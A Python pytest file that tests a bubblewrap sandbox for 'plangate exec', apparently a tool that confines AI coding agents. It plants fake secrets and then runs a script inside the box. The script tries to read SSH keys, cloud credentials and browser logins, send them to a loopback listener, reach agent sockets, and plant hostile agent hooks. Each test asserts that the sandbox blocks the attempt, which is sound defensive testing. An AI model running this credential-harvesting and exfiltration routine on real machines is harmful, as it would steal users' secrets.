"""``plangate exec``'s box is an allowlist: an empty home, egress only through the proxy.

Fake secrets are planted in a temporary home (and under ``$XDG_CONFIG_HOME``,
and in a sibling repository); a listener on loopback stands in for the
internet; an SSH agent socket under the home, the hook helper's socket and a
host abstract socket listen. A command in a real bubblewrap box tries to read
every secret and send it out, directly and through the proxy, and to reach
every socket; it also writes the agents' configuration files. Afterwards:
nothing was readable, nothing was received, the refused connection is recorded,
the allowlisted server was reached through the proxy, and the configuration
written in the box exists neither on the host nor anywhere but the run's summary.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import sys
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from plangate.ledger import open_ledger
from support.boxes import backend_or_fail
from support.delivery import define_surfaces
from support.plan_tasks import approve_task
from support.repo import commit_all

PY = os.path.realpath(sys.executable)
TASK = "TASK-0001"

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="bubblewrap boxes exist on Linux only"
)

SECRET_FILES = (
    "xdg/gh/hosts.yml",
    "xdg/git/credentials",
    "home/.config/gh/hosts.yml",
    "home/.kube/config",
    "home/.npmrc",
    "home/.pypirc",
    "home/.config/gcloud/application_default_credentials.json",
    "home/.mozilla/firefox/abc.default/logins.json",
    "home/.config/google-chrome/Default/Login Data",
    "home/.bash_history",
    "home/.ssh/id_ed25519",
    "home/.aws/credentials",
    "home/.git-credentials",
    "home/projects/sibling/.env",
)
"""Relative to the test's directory; each holds a unique marker."""


class _Listener:
    """A loopback TCP listener standing in for the internet: it keeps what it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()


class _Allowed(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"ALLOWED-BODY" * 1000
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        return


@pytest.fixture
def allowed_server() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Allowed)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def _unix_listener(path: str | bytes) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(path)
    sock.listen(4)
    return sock


def _approved(repo: Path, run_cli, isolation_toml: str) -> None:
    backend_or_fail()
    (repo / "src").mkdir()
    (repo / "src" / "keep.py").write_text("KEEP = 1\n")
    (repo / ".plangate").mkdir(exist_ok=True)
    (repo / ".plangate" / "isolation.toml").write_text(isolation_toml)
    commit_all(repo, "code and isolation settings")
    define_surfaces(repo)
    approve_task(repo, run_cli)


def _exec_json(repo: Path, run_cli, script: str, *extra: str) -> tuple[dict, object]:
    result = run_cli(repo, "exec", TASK, "--json", *extra, "--", PY, "-c", textwrap.dedent(script))
    return json.loads(result.out), result


def _last_exec_result(repo: Path) -> dict:
    with open_ledger(repo, {}, create=False) as ledger:
        found = [dict(e.payload) for e in ledger.entries() if e.kind == "exec_result"]
    return found[-1]


def test_secrets_stay_out_and_nothing_leaves_but_allowlisted_egress(
    git_repo: Path,
    run_cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    allowed_server: int,
) -> None:
    _approved(git_repo, run_cli, f'agents = ["claude"]\negress = ["127.0.0.1:{allowed_server}"]\n')
    home = Path(os.environ["HOME"])
    markers = {}
    for rel in SECRET_FILES:
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        markers[rel] = f"SECRET-{secrets.token_hex(8)}"
        path.write_text(markers[rel] + "\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    monkeypatch.setenv("XDG_DATA_HOME", str(home / ".local" / "share"))
    monkeypatch.setenv("GH_TOKEN", "SECRET-gh-token-in-env")
    agent = _unix_listener(str(home / ".ssh" / "agent.sock"))
    monkeypatch.setenv("SSH_AUTH_SOCK", str(home / ".ssh" / "agent.sock"))
    (home / ".cache" / "plangate" / "hookd").mkdir(parents=True)
    hookd = _unix_listener(str(home / ".cache" / "plangate" / "hookd" / "h.sock"))
    abstract_name = f"plangate-test-{secrets.token_hex(6)}"
    abstract = _unix_listener(b"\0" + abstract_name.encode())
    listener = _Listener()
    paths = {rel: str(tmp_path / rel) for rel in SECRET_FILES}
    sockets = {
        "ssh-agent": str(home / ".ssh" / "agent.sock"),
        "hookd": str(home / ".cache" / "plangate" / "hookd" / "h.sock"),
        "abstract": "\0" + abstract_name,
    }
    try:
        body, result = _exec_json(
            git_repo,
            run_cli,
            f"""
            import json, os, socket, urllib.request
            report = {{"read": [], "sent_direct": False, "sockets": [], "env": {{}}}}
            for rel, path in {paths!r}.items():
                try:
                    report["read"].append([rel, open(path).read()])
                except OSError:
                    pass
            loot = json.dumps(report["read"]).encode() + b"EXFIL"
            try:
                socket.create_connection(("127.0.0.1", {listener.port}), timeout=3).sendall(loot)
                report["sent_direct"] = True
            except OSError:
                pass
            try:
                urllib.request.urlopen(
                    urllib.request.Request("http://127.0.0.1:{listener.port}/x", data=loot),
                    timeout=5,
                )
                report["sent_proxy"] = True
            except Exception as exc:
                report["sent_proxy"] = str(exc)
            for name, address in {sockets!r}.items():
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                try:
                    s.connect(address)
                    report["sockets"].append(name)
                except OSError:
                    pass
            report["allowed"] = len(
                urllib.request.urlopen("http://127.0.0.1:{allowed_server}/", timeout=10).read()
            )
            report["env"] = {{k: v for k, v in os.environ.items()
                              if k.startswith("XDG_") or k in ("GH_TOKEN", "SSH_AUTH_SOCK")}}
            report["home"] = os.environ["HOME"]
            report["home_entries"] = sorted(os.listdir(os.environ["HOME"]))
            print("REPORT" + json.dumps(report))
            """,
        )
    finally:
        for sock in (agent, hookd, abstract, listener.sock):
            sock.close()
    box_out = capfd.readouterr().out
    line = next(x for x in box_out.splitlines() if x.startswith("REPORT"))
    report = json.loads(line[len("REPORT") :])
    assert result.code == 0, result.err
    assert report["read"] == [], report["read"]
    assert report["sent_direct"] is False
    assert "403" in str(report["sent_proxy"])
    assert report["sockets"] == []
    assert report["env"] == {}
    assert report["home"] == str(home)
    assert report["allowed"] == len(b"ALLOWED-BODY" * 1000)
    assert b"EXFIL" not in bytes(listener.received)
    assert not any(m.encode() in bytes(listener.received) for m in markers.values())
    egress = body["isolation"]["egress"]
    assert {(d["host"], d["port"]) for d in egress["refused"]} == {("127.0.0.1", listener.port)}
    assert {(d["host"], d["port"]) for d in egress["contacted"]} == {
        ("127.0.0.1", allowed_server)
    }
    assert _last_exec_result(git_repo)["egress"] == egress


def test_agent_configuration_written_in_the_box_stays_in_the_box_and_is_summarised(
    git_repo: Path, run_cli, capfd: pytest.CaptureFixture[str]
) -> None:
    _approved(git_repo, run_cli, 'agents = ["claude", "codex"]\nnetwork = false\n')
    home = Path(os.environ["HOME"])
    (home / ".claude").mkdir()
    original = b'{"theme": "dark"}\n'
    (home / ".claude" / "settings.json").write_bytes(original)
    hook = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "evil"}]}]}}
    body, result = _exec_json(
        git_repo,
        run_cli,
        f"""
        import json, os, pathlib
        home = pathlib.Path(os.environ["HOME"])
        print("SEEN", (home / ".claude" / "settings.json").read_text().strip())
        (home / ".claude" / "settings.json").write_text({json.dumps(json.dumps(hook))})
        (home / ".claude.json").write_text('{{"mcpServers": {{"x": {{"command": "evil"}}}}}}')
        (home / ".codex").mkdir(exist_ok=True)
        (home / ".codex" / "config.toml").write_text('notify = ["evil"]\\n')
        """,
    )
    box_out = capfd.readouterr().out
    assert result.code == 0, result.err
    assert 'SEEN {"theme": "dark"}' in box_out  # the granted configuration was copied in
    assert (home / ".claude" / "settings.json").read_bytes() == original
    assert not (home / ".claude.json").exists()
    assert not (home / ".codex").exists()
    summary = body["isolation"]["home"]
    changes = {c["path"]: c["change"] for c in summary["changes"]}
    assert changes == {
        "~/.claude/settings.json": "modified",
        "~/.claude.json": "added",
        "~/.codex/config.toml": "added",
    }
    assert all(c["digest"].startswith("sha256:") for c in summary["changes"])
    assert summary["copied"] == ["~/.claude/settings.json"]
    assert summary["discarded"] is True
    assert _last_exec_result(git_repo)["home"] == summary
    assert not list((git_repo / ".plangate" / "runs").glob("*/home"))
    assert "egress" not in body["isolation"]  # network = false: no proxy ran


def test_credentials_pass_by_name_and_are_recorded_by_name_only(
    git_repo: Path, run_cli, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    _approved(git_repo, run_cli, 'agents = []\npass_env = ["MY_TOKEN"]\nnetwork = false\n')
    monkeypatch.setenv("MY_TOKEN", "SECRET-passed-value")
    monkeypatch.setenv("OTHER_TOKEN", "SECRET-not-passed")
    body, result = _exec_json(
        git_repo,
        run_cli,
        """
        import os
        print("GOT", os.environ.get("MY_TOKEN"), os.environ.get("OTHER_TOKEN"))
        """,
    )
    box_out = capfd.readouterr().out
    assert result.code == 0, result.err
    assert "GOT SECRET-passed-value None" in box_out
    assert body["isolation"]["pass_env"] == ["MY_TOKEN"]
    recorded = json.dumps(_last_exec_result(git_repo))
    assert "MY_TOKEN" in recorded
    assert "SECRET-passed-value" not in recorded


@pytest.mark.parametrize(
    ("toml", "code"),
    [
        ('read_only = ["~/.ssh"]\n', "ISOLATION_GRANT_SECRET"),
        ('copy = ["~/.config"]\n', "ISOLATION_GRANT_SECRET"),
        ('read_only = ["~/keys/deploy.pem"]\n', "ISOLATION_GRANT_SECRET"),
        ('egress = ["*"]\n', "ISOLATION_EGRESS_WILDCARD"),
        ('visible = ["/srv"]\n', "ISOLATION_CONFIG_INVALID"),
    ],
)
def test_a_grant_of_a_secret_or_wildcard_egress_is_refused_before_anything_runs(
    git_repo: Path, run_cli, tmp_path: Path, toml: str, code: str
) -> None:
    _approved(git_repo, run_cli, toml)
    marker = tmp_path / "ran"
    body, result = _exec_json(
        git_repo, run_cli, f"open({str(marker)!r}, 'w').write('x')"
    )
    assert result.code != 0
    assert code in result.err
    assert not marker.exists()
    assert body["isolation"]["error"] == code


def test_a_granted_socket_is_refused(
    git_repo: Path, run_cli, tmp_path: Path
) -> None:
    _approved(git_repo, run_cli, 'read_only = ["~/tools/agent"]\n')
    home = Path(os.environ["HOME"])
    (home / "tools").mkdir()
    sock = _unix_listener(str(home / "tools" / "agent"))
    try:
        _body, result = _exec_json(git_repo, run_cli, "print('ran')")
    finally:
        sock.close()
    assert result.code != 0
    assert "ISOLATION_GRANT_SECRET" in result.err
    assert "socket" in result.err


def test_a_proxy_that_cannot_start_refuses_the_run(
    git_repo: Path,
    run_cli,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    import errno

    from plangate.isolation.proxy import EgressProxy

    _approved(git_repo, run_cli, 'agents = ["claude"]\n')

    def address_taken(_self: EgressProxy, _path: str) -> None:
        raise OSError(errno.EADDRINUSE, "Address already in use")

    # The proxy's socket cannot be bound: the run must not start, with or without network.
    monkeypatch.setattr(EgressProxy, "listen_unix", address_taken)
    body, result = _exec_json(git_repo, run_cli, "print('COMMAND-RAN')")
    assert "COMMAND-RAN" not in capfd.readouterr().out
    assert result.code != 0
    assert "SANDBOX_UNAVAILABLE" in result.err
    assert body["isolation"]["error"] == "SANDBOX_UNAVAILABLE"


def test_a_program_under_the_home_runs_only_when_granted(
    git_repo: Path, run_cli, capfd: pytest.CaptureFixture[str]
) -> None:
    _approved(git_repo, run_cli, 'agents = ["codex"]\nnetwork = false\n')
    home = Path(os.environ["HOME"])
    for where in (".cache/plangate/hosts/bin", ".local/bin"):
        (home / where).mkdir(parents=True)
        tool = home / where / "tool"
        tool.write_text(f"#!/bin/sh\necho TOOL-RAN-FROM {where}\n")
        tool.chmod(0o755)
    granted = run_cli(
        git_repo, "exec", TASK, "--", str(home / ".cache/plangate/hosts/bin/tool")
    )
    assert "TOOL-RAN-FROM .cache/plangate/hosts/bin" in capfd.readouterr().out
    assert granted.code == 0, granted.err
    hidden = run_cli(git_repo, "exec", TASK, "--", str(home / ".local/bin/tool"))
    assert "TOOL-RAN" not in capfd.readouterr().out
    assert hidden.code == 127
    assert "read_only" in hidden.err


@pytest.mark.parametrize(
    ("grant", "link", "points_to"),
    [
        ("~/tools", "tools", ".ssh"),  # a granted link to a secret directory
        ("~/tools", "tools", "."),  # a granted link to the whole home
        ("~/lib/keys", "lib", ".aws"),  # a link on the way to the granted path
    ],
)
def test_a_grant_reaching_a_secret_through_a_link_is_refused(
    git_repo: Path, run_cli, tmp_path: Path, capfd: pytest.CaptureFixture[str],
    grant: str, link: str, points_to: str,
) -> None:
    home = Path(os.environ["HOME"])
    for secret in (".ssh/id_ed25519", ".aws/keys/credentials"):
        (home / secret).parent.mkdir(parents=True, exist_ok=True)
        (home / secret).write_text("SECRET-LINKED\n")
    (home / link).symlink_to(home / points_to if points_to != "." else home)
    _approved(git_repo, run_cli, f'read_only = ["{grant}"]\nnetwork = false\n')
    _body, result = _exec_json(
        git_repo, run_cli,
        """
        import os
        for top, _dirs, files in os.walk(os.path.expanduser("~"), followlinks=True):
            for name in files:
                try:
                    print(open(os.path.join(top, name)).read())
                except OSError:
                    pass
        print("COMMAND-RAN")
        """,
    )
    out = capfd.readouterr().out
    assert "SECRET-LINKED" not in out
    assert "COMMAND-RAN" not in out
    assert result.code != 0
    assert "ISOLATION_GRANT_SECRET" in result.err


def test_a_grant_holding_the_home_directory_is_refused(
    git_repo: Path, run_cli, tmp_path: Path, capfd: pytest.CaptureFixture[str],
) -> None:
    home = Path(os.environ["HOME"])
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_ed25519").write_text("SECRET-ABOVE\n")
    above = home.parent  # an absolute grant of a directory holding the home
    _approved(git_repo, run_cli, f'read_only = ["{above}"]\nnetwork = false\n')
    _body, result = _exec_json(
        git_repo, run_cli,
        f"""
        try:
            print(open({str(above / home.name / '.ssh' / 'id_ed25519')!r}).read())
        except OSError as exc:
            print("NOT-READ", exc)
        print("COMMAND-RAN")
        """,
    )
    out = capfd.readouterr().out
    assert "SECRET-ABOVE" not in out
    assert "COMMAND-RAN" not in out
    assert result.code != 0
    assert "ISOLATION_GRANT_SECRET" in result.err
